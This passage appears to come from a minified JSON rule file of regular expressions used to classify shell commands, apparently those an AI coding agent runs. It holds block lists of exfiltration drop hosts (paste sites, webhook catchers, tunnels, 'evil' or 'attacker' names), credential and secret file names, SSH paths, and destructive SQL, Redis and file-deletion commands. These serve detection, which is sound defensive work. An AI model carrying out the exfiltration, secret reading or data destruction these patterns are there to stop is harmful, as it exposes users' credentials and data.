$|^jdbc:(?:h2|hsqldb|derby)::?mem"],"file_client":["^(?:sqlite3?|duckdb)$"],"http_client":["^(?:curl|wget|https?|xhs?)$"],"beyond_database":["^(?:drop-database|\
drop-tablespace|drop-owned|shutdown|flush)$"],"local_host":["^(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|host\\\\.docker\\\\.internal|10\\\\.[\\\\d.]+|192\\\\.168\
\\\\.[\\\\d.]+|172\\\\.(1[6-9]|2\\\\d|3[01])\\\\.[\\\\d.]+|[a-z][\\\\w-]*|.*\\\\.(local|localhost|test|internal|svc))$"],"drop_host":["(^|\\\\.)(transfer\\\\.sh|file\\\\.io|0x0\\\\.st|\
termbin\\\\.com|pastebin\\\\.com|paste\\\\.ee|hastebin\\\\.com|ix\\\\.io|sprunge\\\\.us|dpaste\\\\.(org|com)|webhook\\\\.site|requestbin\\\\.(com|net)|requestcatcher\\\\.com|pipedr\
eam\\\\.net|beeceptor\\\\.com|interact\\\\.sh|oast\\\\.\\\\w+|burpcollaborator\\\\.net|ngrok(-free)?\\\\.(io|app|dev)|trycloudflare\\\\.com|serveo\\\\.net|localtunnel\\\\.me|loca\\\\\
.lt|anonfiles\\\\.com|gofile\\\\.io|bashupload\\\\.com|temp\\\\.sh|catbox\\\\.moe|filebin\\\\.net|oshi\\\\.at|wetransfer\\\\.com|discord(app)?\\\\.com|hooks\\\\.slack\\\\.com|api\\\\.t\
elegram\\\\.org|dnslog\\\\.cn|canarytokens\\\\.com)$|^\\\\d{1,3}(\\\\.\\\\d{1,3}){3}$|(^|[.-])(evil|attack(er)?|exfil\\\\w*|malicious|malware|c2|hacker|phish\\\\w*|leak\\\\w*|col\
lect(or)?|drop|steal\\\\w*|bad(actor|guy)?|rogue|sink)([.-]|\\\\d|$)","i"],"file_folder":["(^|/)(bin|sbin|scripts|script|hooks|\\\\.husky|tools|ci)$"],"daemon_path":[\
"^/(?:usr/)?(?:local/)?(?:sbin|lib(?:exec)?)/"],"lsof_port":["^(?:-\\\\w*i)?(?:[46]?(?:tcp|udp))?(?:@[\\\\w.-]+)?:(\\\\w+)$","i"],"few_lines":["^(?:-(?:n ?|-lines[= ]\
)?(?:1?\\\\d|20|\\\\u{FFFC}.*))?$","u"],"one_line":["^(?:-n \\\\d{1,2}p|\\\\d{1,2}!d)$"],"matching_lines":["^(?:-n )?/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*!d$|^(?:-n|--quiet|--sil\
ent) (?:/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*p|s([/|#,])((?:(?!\\\\3)[^\\\\\\\\\\\\n]|\\\\\\\\.)*)\\\\3.*p)$"],"word_everywhere":["^(root|pid|usr|bin|sbin|lib)$","i"],"ps_choice":["^-\\\
\\w*[pq](?:[\\\\d\\\\u{FFFC}]|$)|^-C|^%%|^--(?:p?pid|quick-pid)(?:=|$)|^\\\\d+(?:,\\\\d+)*$|^\\\\u{FFFC}","u"],"ps_all":["^-[aefFlAjwHTLcy]*[eA]|^a?u?x"],"find_by_name":["\
^-(name|iname|path|ipath|wholename|iwholename|regex|iregex)$"],"find_by_property":["^-([acm](time|min)|newer\\\\w*|anewer|cnewer|user|uid|samefile|used)$"],"choos\
ing_filter":["^(?:[efz]?grep|rg|head|[gm]?awk|sed|fzf|shuf|test|\\\\[\\\\[?|cmp|diff|git)$"],"find_action":["^-(?:print0?|printf|fprint0?|fprintf|f?ls|exec|execdir|\
ok|okdir|delete)$"],"find_command":["^-(exec|execdir|ok|okdir)$"],"deleting_program":["^(.*/)?(rm|unlink|shred|rimraf|srm)$"],"temp_root":["^/(private/)?(tmp|va\
r/tmp|dev/shm)/*$"],"supplying_wrapper":["^(g?xargs|find|fd|parallel|[gm]?awk)$"],"fd":["^fd(find)?$"],"search_program":["^(find|ls|git|fd|fdfind)$"],"own_progr\
am":["^(?![~/])(?!.*(?:node_modules|vendor|env)/).*/"],"subcommand_word":["^[a-zA-Z][\\\\w:.-]*$"],"command_argument":["^(?:-{1,2}[\\\\w-]|[/~.$]|\\\\+|[\\\\w-]+[/.=:]|\
[a-z][a-z0-9]*-[a-z])"],"command_end":["^(?:and|then|to|so|because|which|in|for|on|but|with|before|after|\\\\d+[.)])$"],"valuable_things":["^(?:(?:private|ssh) ke\
ys?|api keys|all secrets|the secrets|stored (?:secrets|passwords)|saved passwords|(?:my |user |stored |saved |the )?credentials|\\\\.env file|the remote)$"],"anno\
uncement":["(?:^|\\\\s)(?:(?:i|we|you|agent|the agent|then) (?:will|shall|must|should|can|could|am going to|are going to|plan to|intend to|want to|would like to|n\
eed to|have to|ought to|am about to|are about to|'ll)|i'll|we'll|you'll|i'd like to|we'd like to|i'm going to|we're going to|i'm about to|we're about to|i'm gon\
na|we're gonna|i'd|let's|lets|let me|let us|gonna|going to|about to|need to|needs to|need you to|want you to|like you to|have to|got to|gotta|can you|could you|\
would you|will you|please|(?:plan|goal|task|idea|step|approach|next|solution|fix|strategy|aim|objective|job|thing|way|option|move) is to|try to|proceed to|conti\
nue to|make sure to|be sure to|remember to|don't forget to|do not forget to|don't hesitate to|do not hesitate to|feel free to|time to|best to|easiest to|simples\
t to|(?:then|now|next|first|finally|so|and) (?:we|i)|start by|begin by|by|i am|i'm|we are|we're|currently|now|ich|wir|je vais|nous allons|il faut|je dois|voy a|\
vamos a|hay que)$"],"own_announcement":["\\\\b(?:i'll|we'll|let me|let's|i'm going to|we're going to|(?:i|we) (?:will|need to|have to|must|am going to|are going t\
o))\\\\b"],"signal_option":["^-(\\\\d+|(SIG)?(HUP|INT|QUIT|ILL|TRAP|ABRT|BUS|FPE|KILL|USR[12]|SEGV|PIPE|ALRM|TERM|CHLD|CONT|STOP|TSTP))$","i"],"affirmative_value":[\
"^(client|server|true|t|1|yes)$","i"],"negative_value":["^(false|f|0|no|none|off)$","i"],"bare_letter":["^-\\\\w*[rvqayzR]$"],"request_statement":["^\\\\s*DROP\\\\s+(\
DATABASE|TABLE|SCHEMA|USER|MEASUREMENT|SERIES|VIEW|COLUMN)\\\\b|^\\\\s*(TRUNCATE\\\\s+\\\\S|DELETE\\\\s+FROM\\\\s|ALTER\\\\s+TABLE\\\\s|UPDATE\\\\s+\\\\S+\\\\s+SET\\\\s|GRANT\\\\s|REVOKE\
\\\\s)","i"],"request_fields":["(?:^|[?&])(?:query|q|sql|statement|stmt)=([^&#]*)|\\"(?:query|q|sql|statement|stmt)\\"\\\\s*:\\\\s*\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.){1,4000})\\"","g\
i"],"sql_path":["/(?:sql|query|statement|exec\\\\w*)\\\\b","i"],"own_server":["^(?:https?://)?(?:localhost|127\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+)(?::(?!8123|8086|9000|9200|7474|\
8529|4200)\\\\d+)?(?:/|$)"],"sending_command":["^\\\\s*-?(?:put|mput|reput|send|append|mirror\\\\s+(?:-\\\\w*R\\\\w*|--reverse))\\\\s+(.*)$"],"editor_shell":["^\\\\s*:?\\\\s*(?\
:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\s*(.+?)(?:[\\"']\\\\))?$|^\\\\s*:?\\\\s*(?:sh(?:ell)?|term(\
?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerdctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:"],"bound_volume":["\\\\bvolume create\\\\b.* (?:-[odcH]\
|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|timescaledb|mysql|mariadb|percona|redis|valkey|keydb|mo\
ngo|clickhouse-server|memcached)(?:[:@]|$)"],"container_network":["^--?(?:net|network|link|env-file)\\\\b|(?:HOST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE)\\\\w*=|^[\
A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(?:[-=]|/dev/stdin)$"],"indirect_runs":["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|Pro\
cessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.execute|io\\\\.popen)\\\\s*\\\\(\\\\s*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe\
]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])"],"command_texts":["([\\"'])((?:sudo\\\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wg\
et)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\\\\.(?:GetFolderPath\\\\(\\\\s*Environment\\\\.SpecialFolder\\\\.(?:UserProfile|Personal|MyDocumen\
ts)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?:System\\\\.)?(?:homedir|user_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\
\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[gG]etenv|get_env!?|var(?:_os)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\
\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\"']HOME[\\"']\\\\]|\\\\$(?:::)?env\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\
\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcommand|editor|pager|askpass|fsmonitor|gitproxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\
\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helper)$|^(diff|merge|filter|difftool|mergetool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smu\
dge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cccmd|headercmd))$","i"],"production_name":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|\
$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)$"],"shell_program":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|\
stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|declare|local|set|alias|mkdir(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\
\\.)$"],"unfollowed_state":["\\\\(\\\\(|\\\\[\\\\[[^\\\\]]{0,200}\\\\s-\\\\w\\\\w\\\\s|\\\\w\\\\[[^\\\\]\\\\n]{0,60}[=+-]|\\\\$\\\\{\\\\w+:[^-+?=]|\\\\bIFS=|\\\\bprintf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bf\
unctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -p|\\\\b(?:let|eval|source|unset|integer|float|repeat|always|disable|unfunction|unhash|emulate|zmodl\
oad|getopts|coproc|shopt|enable|setopt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?:^|[;&|(\\\\n])\\\\s*\\\\.\\\\s"],"special_variable":["^(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w\
+|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|REPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID|DIRSTACK|FUNCNAME|GROUPS|SHELLOPTS|HIST\\\\w+|COMP\\\\w+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*\
path|pipestatus|options|commands|functions|aliases|match|reply|signals|history|keymaps|widgets|TTYIDLE|COLUMNS|LINES|HOST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK\
_\\\\w+)$"],"unfollowed_builtin":["^(?:let|eval|source|\\\\.|shopt|enable|setopt|trap|declare|typeset|builtin|command)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o e\
rrexit)(?: -\\\\w+| -o \\\\w+| pipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|ti\
meout)$"],"endless":["^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK\
|use|no|require)\\\\b"],"checking_option":["^(?:c|check|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)\
$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choo\
sing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?index|mat\
ch|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain\
_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_up\
case|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_\
settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp\
|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(us\
r|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc\
/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^\\\\.venv[-\
_.]?\\\\w[\\\\w.-]*$|^venv-?\\\\d[\\\\d.]*$|^(tmp|temp|test|scratch|demo|dummy|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|out\
put|bak|results?|coverage|artifacts?|generated)$|.+\\\\.(egg-info|dist-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profr\
aw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.js|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"de\
vice":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin|stdout|stderr|tty|fd|null|zero|full|random|urandom)$)"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST\
|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connect|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wra\
pper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s\
*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?\
:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(\
rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|keystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\
\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local\
|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|pr\
oduction|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|s\
a[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(login data|web data)( fo\
r account)?(-journal)?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixtures__|testdata|test[-_]da\
ta|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|client|localhost|leaf|agent\\\\d)"],"windows_\
folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)$"],"package_store":["^\
\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],"listing_flag":["^(?:-l\
|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\
\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S\
*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\
\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?pri\
nt \\\\$1;? ?\\\\}$"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"line_filter":["^(?:cat|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\
\\S*[or])|sort(?!.* (?:-\\\\w*o|--output))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|kubectl get|oc get) ?"],"secret_listing":["^(?:kubectl|oc)$"],"counte\
r":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filt\
er":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:example|sample|template|tpl|dist|default\
s?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s\
*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command":["(?<between>[\\\\s;{}!]+|#.*|\\\\d+\
(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\\
k<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\])(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[])*)\\\\k<delimiter>(?<replace\
ment>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k\
<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)|e(?<command>.*)|[wW](?<outp\
ut>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\
\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"\
],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive":["%%|%[-+ #0]*(\\\\d*|\\\
\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\
\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\\\\\\\\\\((?:[^()]|\\\\([^()\
]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<\
!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n\
]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|true|x) \\\\]|test 1|ech\
o.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"],"generated_statement"\
:["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":["^(?:[a-z][a-z0-9+.-]\
*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\
\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring_word":["^(?:remote|co\
ntext|config.*)$"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation":["(?:needs? to|should\
|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?\
)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t\
]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\
\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],"code_name":["[\\\\p{L}_\
][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d+)?","y"],"code_mark":\
["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":["^(?:[.,+*/%&|=<>?:([\
